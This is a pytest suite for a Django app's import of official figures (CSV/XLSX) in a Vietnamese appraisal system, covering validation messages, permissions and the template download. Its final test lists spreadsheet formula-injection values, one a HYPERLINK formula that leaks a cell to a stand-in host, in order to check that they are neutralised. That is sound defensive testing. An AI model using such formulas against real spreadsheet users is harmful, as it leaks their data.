"""Official figures: the import (every bad-input path reported at once, nothing saved) and its page."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile

from dti.appraisal.models import OfficialFigure
from dti.appraisal.official import OfficialImportInvalid, official_import
from dti.audit.models import AuditEntry

URL = "/tham-dinh/ky/{}/so-lieu-chinh-thuc/"


def csv_upload(text: str, name: str = "so-lieu.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode("utf-8"), content_type="text/csv")


def xlsx_upload(rows: list[list[Any]], name: str = "so-lieu.xlsx") -> SimpleUploadedFile:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return SimpleUploadedFile(name, out.getvalue())


def run(world: dict[str, Any], upload: Any, **kwargs: Any) -> Any:
    return official_import(campaign=world["campaign"], upload=upload, by=world["users"]["organiser"], **kwargs)


def problems(world: dict[str, Any], upload: Any) -> list[str]:
    with pytest.raises(OfficialImportInvalid) as caught:
        run(world, upload)
    assert OfficialFigure.objects.count() == 0
    return [str(p) for p in caught.value.problems]


def test_csv_with_vietnamese_headers_and_decimal_comma(world: dict[str, Any]) -> None:
    upload = csv_upload(
        "Đơn vị;Mã chỉ số;Số liệu;Giá trị;Nguồn\n"
        "UBND huyện Một;I.2;a;12;Cổng DVC\n"
        "ubnd huyện hai;I.2;Số xã có chuyên mục;7;\n"
        "UBND huyện Hai;I.2;ratio;37,5;\n"
        "UBND huyện Một;I.2;b;20;\n"
    )
    result = run(world, upload, source="Sở TT&TT")
    assert (result.created, result.updated) == (4, 0)
    one = OfficialFigure.objects.get(participation=world["participation"], code="I.2", field="a")
    assert one.value == Decimal("12") and one.source == "Cổng DVC" and one.tolerance == Decimal("0.05")
    two = OfficialFigure.objects.get(participation__unit=world["other_unit"], field="a")  # found by its label
    assert two.value == Decimal("7") and two.source == "Sở TT&TT"
    ratio = OfficialFigure.objects.get(field="ratio")  # a percentage, stored as a fraction like the unit's value
    assert ratio.value == Decimal("0.375")
    entry = AuditEntry.objects.get(action="official.import")
    assert entry.new["created"] == 4 and entry.actor == world["users"]["organiser"]


def test_xlsx_with_english_headers_and_reimport_replaces(world: dict[str, Any]) -> None:
    run(world, xlsx_upload([["unit", "code", "input", "value"], ["UBND huyện Một", "I.2", "a", 12]]))
    result = run(
        world,
        xlsx_upload([["unit", "code", "input", "value", "source"], ["UBND huyện Một", "I.2", "a", 14.0, "Mới"]]),
        tolerance=Decimal("0.1"),
    )
    assert (result.created, result.updated) == (0, 1)
    figure = OfficialFigure.objects.get()
    assert figure.value == Decimal("14") and figure.source == "Mới" and figure.tolerance == Decimal("0.1")


def test_every_row_problem_reported_at_once(world: dict[str, Any]) -> None:
    found = problems(
        world,
        csv_upload(
            "Đơn vị,Mã chỉ số,Số liệu,Giá trị\n"
            "UBND huyện Ba,I.2,a,1\n"  # unknown unit
            "UBND huyện Một,IX.9,a,1\n"  # unknown code
            "UBND huyện Một,I.2,zzz,1\n"  # unknown input
            "UBND huyện Một,I.1,truong_ban,1\n"  # not a number input
            "UBND huyện Một,I.2,a,mười hai\n"  # text in a number cell
            "UBND huyện Một,I.2,b,\n"  # empty value
            "UBND huyện Một,I.2,a,-3\n"  # negative count
            "UBND huyện Hai,I.2,a,1\n"
            "UBND huyện Hai,I.2,a,2\n"  # duplicate
            ",I.2,a,2\n"  # no unit
        ),
    )
    text = "\n".join(found)
    assert "dòng 2, cột A (Đơn vị): Đơn vị “UBND huyện Ba” không tham gia kỳ đánh giá này." in text
    assert "dòng 3, cột B (Mã chỉ số): Không có chỉ số “IX.9”" in text
    assert "dòng 4, cột C (Số liệu): Chỉ số I.2 không có số liệu “zzz”. Các số liệu dạng số của chỉ số này: a" in text
    assert "dòng 5, cột C (Số liệu): Số liệu “truong_ban” của chỉ số I.1 không phải là số." in text
    assert "dòng 6, cột D (Giá trị): Giá trị “mười hai” không hợp lệ" in text
    assert "dòng 7, cột D (Giá trị): Thiếu giá trị." in text
    assert "dòng 8, cột D (Giá trị)" in text and "âm" in text
    assert "dòng 10: Số liệu a của chỉ số I.2 cho UBND huyện Hai trùng với dòng 9." in text
    assert "dòng 11, cột A (Đơn vị): Thiếu tên đơn vị." in text
    assert len(found) == 9


def test_ambiguous_number_refused(world: dict[str, Any]) -> None:
    found = problems(world, csv_upload('unit,code,input,value\nUBND huyện Một,I.2,a,"1,234"\n'))
    assert "dòng 2, cột D (Giá trị)" in found[0]


def test_text_in_number_cell_of_xlsx(world: dict[str, Any]) -> None:
    found = problems(
        world, xlsx_upload([["Đơn vị", "Mã chỉ số", "Số liệu", "Giá trị"], ["UBND huyện Một", "I.2", "a", "abc"]])
    )
    assert found[0].startswith("trang 'Sheet', dòng 2, cột D (Giá trị): Giá trị “abc” không hợp lệ")


def test_wrong_headers(world: dict[str, Any]) -> None:
    found = problems(world, csv_upload("Tên đơn vị,Loại đơn vị,Đơn vị cấp trên\nA,huyen,\n"))
    assert len(found) == 3  # code, input, value missing
    assert "Không có cột “Mã chỉ số”" in found[0] and "Hãy dùng tệp mẫu" in found[0]


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("rong.csv", b"", "Tệp rỗng"),
        ("chi-tieu-de.csv", "Đơn vị,Mã chỉ số,Số liệu,Giá trị\n".encode(), "không có dòng dữ liệu"),
        ("anh.xlsx", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "có đuôi .xlsx nhưng nội dung không phải tệp Excel"),
        ("hong.xlsx", b"PK\x03\x04" + b"rac" * 50, "Không mở được tệp Excel"),
        ("cu.xlsx", b"\xd0\xcf\x11\xe0" + b"\x00" * 64, "tệp Excel cũ (.xls)"),
        ("nhi-phan.csv", b"\x00\x01\x02abc", "cần tệp Excel (.xlsx) hoặc CSV mã UTF-8"),
    ],
)
def test_bad_files(world: dict[str, Any], name: str, data: bytes, message: str) -> None:
    found = problems(world, SimpleUploadedFile(name, data))
    assert message in found[0]


def test_too_large(world: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("dti.core.imports.MAX_IMPORT_BYTES", 100)
    found = problems(world, csv_upload("unit,code,input,value\n" + "UBND huyện Một,I.2,a,1\n" * 10))
    assert "vượt giới hạn" in found[0]


def test_only_the_organiser_imports(world: dict[str, Any]) -> None:
    upload = csv_upload("unit,code,input,value\nUBND huyện Một,I.2,a,1\n")
    for persona in ("appraiser", "chair", "reporter"):
        with pytest.raises(PermissionDenied):
            official_import(campaign=world["campaign"], upload=upload, by=world["users"][persona])


def test_page_import_and_flag(appraising: dict[str, Any], login: Any) -> None:
    client = login("organiser")
    upload = csv_upload("Đơn vị,Mã chỉ số,Số liệu,Giá trị\nUBND huyện Một,I.2,a,12\nUBND huyện Hai,I.2,a,10\n")
    response = client.post(URL.format(appraising["campaign"].pk), {"file": upload, "tolerance": "2,5", "source": "DVC"})
    assert response.status_code == 302
    assert OfficialFigure.objects.filter(tolerance=Decimal("0.025")).count() == 2
    page = login("appraiser").get(URL.format(appraising["campaign"].pk))
    assert page.status_code == 200
    rows = page.context["rows"]
    flagged = {r.unit: r.differs for r in rows}
    assert flagged == {"UBND huyện Một": True, "UBND huyện Hai": False}  # claimed 15 vs 12; 10 vs 10
    assert "flag-differs" in page.content.decode() and "Chênh lệch" in page.content.decode()
    assert "Kiểm tra và nhập" not in page.content.decode()  # read-only for the appraiser
    assert page.context["differing"] == 1


def test_page_shows_problems(world: dict[str, Any], login: Any) -> None:
    client = login("organiser")
    response = client.post(
        URL.format(world["campaign"].pk), {"file": csv_upload("unit,code,input,value\nX,I.2,a,1\n"), "tolerance": "5"}
    )
    assert response.status_code == 422
    assert "Đơn vị “X” không tham gia kỳ đánh giá này." in response.content.decode()
    bad = client.post(URL.format(world["campaign"].pk), {"file": csv_upload("a"), "tolerance": "năm"})
    assert bad.status_code == 422 and "Sai lệch cho phép “năm” không phải là số." in bad.content.decode()
    missing = client.post(URL.format(world["campaign"].pk), {"tolerance": "5"})
    assert missing.status_code == 422 and "Hãy chọn tệp" in missing.content.decode()


@pytest.mark.parametrize(
    ("persona", "status"),
    [("organiser", 200), ("admin", 200), ("appraiser", 200), ("chair", 200), ("reporter", 403), ("viewer", 403)],
)
def test_page_permissions(world: dict[str, Any], login: Any, persona: str, status: int) -> None:
    assert login(persona).get(URL.format(world["campaign"].pk)).status_code == status


def test_post_refused_to_appraiser(world: dict[str, Any], login: Any) -> None:
    upload = csv_upload("unit,code,input,value\nUBND huyện Một,I.2,a,1\n")
    assert login("appraiser").post(URL.format(world["campaign"].pk), {"file": upload}).status_code == 403
    assert OfficialFigure.objects.count() == 0


def test_anonymous_goes_to_login(world: dict[str, Any], login: Any) -> None:
    assert login("anonymous").get(URL.format(world["campaign"].pk)).status_code == 302


def test_template_lists_units_and_numeric_inputs(world: dict[str, Any], login: Any) -> None:
    response = login("organiser").get(URL.format(world["campaign"].pk) + "tep-mau.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    lines = text.strip().splitlines()
    assert lines[0] == "Đơn vị,Mã chỉ số,Số liệu,Tên số liệu,Giá trị,Nguồn"
    assert lines[1:] == [
        "UBND huyện Hai,I.2,a,Số xã có chuyên mục,,",
        "UBND huyện Hai,I.2,b,Số xã,,",
        'UBND huyện Hai,I.2,ratio,"Tỷ lệ, khi chỉ có tỷ lệ mà không có tử số và mẫu số",,',
        "UBND huyện Một,I.2,a,Số xã có chuyên mục,,",
        "UBND huyện Một,I.2,b,Số xã,,",
        'UBND huyện Một,I.2,ratio,"Tỷ lệ, khi chỉ có tỷ lệ mà không có tử số và mẫu số",,',
    ]
    # The template, filled in, imports as it is.
    filled = text.replace("Số xã có chuyên mục,,", "Số xã có chuyên mục,5,").replace("Số xã,,", "Số xã,20,")
    filled = filled.replace('mẫu số",,', 'mẫu số","25,5",')
    result = run(world, csv_upload(filled))
    assert result.created == 6


FORMULA_NAMES = ['=HYPERLINK("http://x.example/?leak="&A2,"Xem")', "+1", "-x", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("name", FORMULA_NAMES)
def test_template_neutralises_a_formula_unit_name(world: dict[str, Any], login: Any, name: str) -> None:
    """Issue 10 §3: a unit name a spreadsheet would run is written with a leading apostrophe, and the
    filled template still imports to that unit (the reader drops the apostrophe)."""
    unit = world["other_unit"]
    unit.name = name
    unit.save()
    text = login("organiser").get(URL.format(world["campaign"].pk) + "tep-mau.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    names = {row[0] for row in rows[1:]}
    assert "'" + name in names and name not in names
    filled = io.StringIO()
    csv.writer(filled).writerows([rows[0], *([*row[:4], "5", ""] for row in rows[1:])])
    result = run(world, csv_upload(filled.getvalue()))
    assert result.created == 6
    assert OfficialFigure.objects.filter(participation__unit=unit).count() == 3
